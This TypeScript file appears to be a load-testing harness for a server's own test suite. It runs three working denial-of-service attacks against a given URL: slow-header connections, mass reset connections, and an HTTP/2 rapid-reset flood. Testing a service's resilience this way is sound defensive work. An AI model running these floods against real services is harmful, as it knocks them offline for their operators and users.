// One who abuses the service at the URL that comes first, in the way that comes second; ends when that is done.
import { once } from 'node:events';
import { connect, type Socket } from 'node:net';
import { setTimeout as sleep, setImmediate as turn } from 'node:timers/promises';
import { HELLO, rapidReset } from '../test/http/http2Frames.ts';

const SLOW_CONNECTIONS = 1000;
/** How long they are kept, in milliseconds; each sends a byte of its header a second. */
const SLOW_TIME = 8000;
const DROPPED_CONNECTIONS = 10_000;
/** How many of them are under way at once. */
const AT_ONCE = 50;
const RESETS = 100_000;
const RESETS_A_WRITE = 200;
const RESETS_A_CONNECTION = 1000;

const [url = '', way = ''] = process.argv.slice(2);
const { hostname: host, port } = new URL(url);

function open(): Socket {
  const socket = connect({ host, port: Number(port), noDelay: true });
  socket.on('error', () => {});
  return socket;
}

async function slowConnections(): Promise<string> {
  const sockets = Array.from({ length: SLOW_CONNECTIONS }, () => {
    const socket = open();
    socket.write('GET / HTTP/1.1\r\nX-Slow: ');
    return socket;
  });
  const end = performance.now() + SLOW_TIME;
  while (performance.now() < end) {
    await sleep(1000);
    for (const socket of sockets) if (socket.writable) socket.write('x');
  }
  const cut = sockets.filter((socket) => socket.destroyed).length;
  for (const socket of sockets) socket.destroy();
  return `${SLOW_CONNECTIONS} connections, ${cut} of them cut off`;
}

async function droppedConnections(): Promise<string> {
  let left = DROPPED_CONNECTIONS;
  const drop = async () => {
    while (left-- > 0) {
      const socket = open();
      await new Promise<void>((resolve) => {
        socket.once('connect', () => {
          socket.write('GET / HT');
          socket.resetAndDestroy();
        });
        socket.once('close', () => resolve());
      });
    }
  };
  await Promise.all(Array.from({ length: AT_ONCE }, drop));
  return `${DROPPED_CONNECTIONS} connections`;
}

async function rapidResets(): Promise<string> {
  let sent = 0;
  let connections = 0;
  while (sent < RESETS) {
    const socket = open().resume();
    connections += 1;
    socket.write(HELLO);
    // With the first bytes, and once the service has answered them.
    if (connections % 2 === 0) await new Promise<void>((resolve) => socket.once('data', () => resolve()));
    // As many as Node lets pass, on one connection after another.
    for (let index = 0; index < RESETS_A_CONNECTION; sent += RESETS_A_WRITE) {
      const frames = Array.from({ length: RESETS_A_WRITE }, () => rapidReset(index++));
      socket.write(Buffer.concat(frames));
      await turn();
    }
    await new Promise<void>((resolve) => socket.end(() => resolve()));
  }
  return `${RESETS} streams on ${connections} connections`;
}

const WAYS: Record<string, () => Promise<string>> = {
  'slow connections': slowConnections,
  'dropped connections': droppedConnections,
  'rapid reset': rapidResets,
};
// The start of the process is not what is measured.
process.send?.('ready');
await once(process, 'message');
process.send?.(await WAYS[way]?.());
process.disconnect();
